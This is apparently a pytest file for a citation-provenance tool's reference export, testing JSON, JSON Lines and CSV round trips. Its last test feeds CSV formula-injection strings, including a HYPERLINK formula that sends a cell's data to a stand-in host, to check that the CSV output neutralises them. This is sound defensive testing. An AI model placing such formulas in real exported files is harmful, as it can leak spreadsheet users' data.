"""Tests for the reference export: record fields and JSON / JSON Lines / CSV round trips."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from typing import Any

import pytest

from provenance.errors import ConfigError
from provenance.models import (
    Category,
    CitedDate,
    Claim,
    Document,
    DocumentMeta,
    Outlet,
    OutletDomain,
    ParenKind,
    Parenthetical,
    Reference,
    Resolution,
    ScanResult,
)
from provenance.report.export import EXPORT_FIELDS, FIELD_DOCS, reference_records, write_records

REQUIRED_ORDER = (
    "document",
    "claim_id",
    "claim",
    "citation",
    "outlet",
    "outlet_id",
    "outlet_name",
    "domain",
    "date",
    "date_text",
    "year_inferred",
    "accessed",
    "prefix",
    "url",
)

# ---------------------------------------------------------------- builders

ASIA_PLUS = Outlet(
    id="asia-plus",
    name="Asia-Plus",
    category=Category.INDEPENDENT,
    domains=(
        OutletDomain("news.tj", until="2019-12-31"),
        OutletDomain("asiaplustj.info", since="2020-01-01"),
    ),
)
EDM = Outlet(
    id="edm",
    name="Eurasia Daily Monitor",
    category=Category.THINK_TANK,
    domains=(OutletDomain("jamestown.org"),),
)


def reference(outlet: str, date: CitedDate | None, **kw: Any) -> Reference:
    return Reference(outlet=outlet, outlet_start=0, outlet_end=len(outlet), date=date, **kw)


def sample_result() -> ScanResult:
    refs = (
        reference("News.tj", CitedDate("October 20", 2016, 10, 20, year_inferred=True), id=7),
        reference("see EDM", CitedDate("2015", 2015), prefix="see", id=8),
        reference(
            "Радио Озоди",
            CitedDate("3 November 2019", 2019, 11, 3, anomaly="after-publication"),
            accessed=True,
            url="https://www.ozodi.org/a/1.html",
            id=9,
        ),
        reference('Mystery, "Inc"', None),
    )
    raw = (
        "(News.tj, October 20; see EDM, 2015; Радио Озоди, accessed 3 November 2019;"
        ' Mystery, "Inc")'
    )
    paren = Parenthetical(50, 50 + len(raw), raw, ParenKind.CITATION, refs)
    claims = [
        Claim(1, 1, 0, 40, "Uncited, with a comma.", [], id=1),
        Claim(2, 3, 45, 200, 'China said "yes",\nthen\r\nno; Таджикистан.', [paren], id=2),
    ]
    resolutions = {
        "News.tj": Resolution("News.tj", ASIA_PLUS, None, "domain"),
        "see EDM": Resolution("see EDM", EDM, "jamestown.org", "alias", self_citation=True),
        "Радио Озоди": Resolution("Радио Озоди", None, "ozodi.org", "url"),
    }
    doc = Document(
        path="seeds/a,b.txt",
        sha256="0" * 64,
        format="txt",
        encoding="utf-8",
        text="",
        meta=DocumentMeta(published=dt.date(2016, 11, 17)),
    )
    return ScanResult(document=doc, claims=claims, resolutions=resolutions)


# ---------------------------------------------------------------- records


def test_export_fields_are_documented_in_order() -> None:
    assert EXPORT_FIELDS[: len(REQUIRED_ORDER)] == REQUIRED_ORDER
    assert {"category", "self_citation", "date_anomaly", "paragraph", "sentence"} <= set(
        EXPORT_FIELDS
    )
    assert tuple(FIELD_DOCS) == EXPORT_FIELDS and all(FIELD_DOCS.values())


def test_reference_records_values() -> None:
    records = reference_records(sample_result())
    assert [list(r) for r in records] == [list(EXPORT_FIELDS)] * 4
    first, second, third, fourth = records
    assert first == {
        "document": "seeds/a,b.txt",
        "claim_id": 2,
        "claim": 'China said "yes",\nthen\r\nno; Таджикистан.',
        "citation": sample_result().claims[1].parentheticals[0].raw,
        "outlet": "News.tj",
        "outlet_id": "asia-plus",
        "outlet_name": "Asia-Plus",
        "domain": "news.tj",
        "date": "2016-10-20",
        "date_text": "October 20",
        "year_inferred": True,
        "accessed": False,
        "prefix": None,
        "url": None,
        "category": "independent",
        "self_citation": False,
        "date_anomaly": None,
        "paragraph": 2,
        "sentence": 3,
        "reference_id": 7,
        "title": None,
        "source_kind": None,
    }
    assert (second["date"], second["prefix"], second["self_citation"], second["domain"]) == (
        "2015",
        "see",
        True,
        "jamestown.org",
    )
    assert (
        third["outlet_id"],
        third["category"],
        third["domain"],
        third["accessed"],
        third["date_anomaly"],
        third["url"],
    ) == (None, "unknown", "ozodi.org", True, "after-publication", "https://www.ozodi.org/a/1.html")
    assert (
        fourth["date"],
        fourth["date_text"],
        fourth["year_inferred"],
        fourth["reference_id"],
    ) == (None, None, False, None)


def test_reference_records_empty_document() -> None:
    result = sample_result()
    result.claims = result.claims[:1]
    assert reference_records(result) == []


# ---------------------------------------------------------------- formats


def write(records: list[dict[str, Any]], fmt: str) -> tuple[int, str]:
    out = io.StringIO()
    return write_records(iter(records), fmt, out), out.getvalue()


def csv_text(value: Any) -> str:
    return (
        ""
        if value is None
        else ("true" if value is True else "false" if value is False else str(value))
    )


def test_json_round_trip_matches_json_dumps() -> None:
    records = reference_records(sample_result())
    count, text = write(records, "json")
    assert count == 4 and json.loads(text) == records
    assert text == json.dumps(records, ensure_ascii=False, indent=2) + "\n"
    assert "Радио Озоди" in text  # ensure_ascii=False


def test_jsonl_round_trip() -> None:
    records = reference_records(sample_result())
    count, text = write(records, "jsonl")
    lines = text.splitlines()
    assert count == len(lines) == 4 and [json.loads(line) for line in lines] == records


def test_csv_round_trip_with_commas_quotes_newlines_cyrillic() -> None:
    records = reference_records(sample_result())
    count, text = write(records, "csv")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert count == len(rows) == 4
    assert list(rows[0]) == list(EXPORT_FIELDS)
    assert rows == [{k: csv_text(v) for k, v in r.items()} for r in records]
    assert rows[0]["claim"] == 'China said "yes",\nthen\r\nno; Таджикистан.'
    assert text.splitlines()[0] == ",".join(EXPORT_FIELDS)


@pytest.mark.parametrize(
    ("fmt", "expected"),
    [("json", "[]\n"), ("jsonl", ""), ("csv", ",".join(EXPORT_FIELDS) + "\n")],
    ids=["json", "jsonl", "csv"],
)
def test_empty_exports(fmt: str, expected: str) -> None:
    assert write([], fmt) == (0, expected)


def test_extra_keys_and_fields() -> None:
    records = [{"document": "d", "status": "verified"}]
    _, text = write(records, "jsonl")
    obj = json.loads(text)
    assert list(obj)[: len(EXPORT_FIELDS)] == list(EXPORT_FIELDS) and obj["status"] == "verified"
    out = io.StringIO()
    write_records(records, "csv", out, fields=("document", "status"))
    assert out.getvalue() == "document,status\nd,verified\n"


def test_output_is_deterministic() -> None:
    for fmt in ("json", "jsonl", "csv"):
        assert write(reference_records(sample_result()), fmt) == write(
            reference_records(sample_result()), fmt
        )


@pytest.mark.parametrize("fmt", ["xml", "", "yaml"], ids=["xml", "empty", "yaml"])
def test_unknown_format_is_a_config_error(fmt: str) -> None:
    with pytest.raises(ConfigError, match="unknown export format"):
        write_records([], fmt, io.StringIO())


def test_format_name_is_case_insensitive() -> None:
    assert write([{"document": "d"}], "JSONL")[0] == 1


@pytest.mark.parametrize(
    "cell",
    ['=HYPERLINK("http://x.test/?"&A1,"ok")', "+1+2", "-2+3", "@SUM(A1)", "\tx", "\r=1", "\0=1"],
)
def test_csv_neutralises_formula_cells_json_keeps_them(cell: str) -> None:
    records = [{"document": cell, "claim": cell, "outlet": "Safe", "paragraph": -1}]
    _, csv_out = write(records, "csv")
    row = next(csv.DictReader(io.StringIO(csv_out, newline="")))
    assert row["document"] == row["claim"] == "'" + cell  # shown as text, never run
    assert row["outlet"] == "Safe" and row["paragraph"] == "-1"  # numbers stay numbers
    _, json_out = write(records, "json")
    assert json.loads(json_out)[0]["claim"] == cell
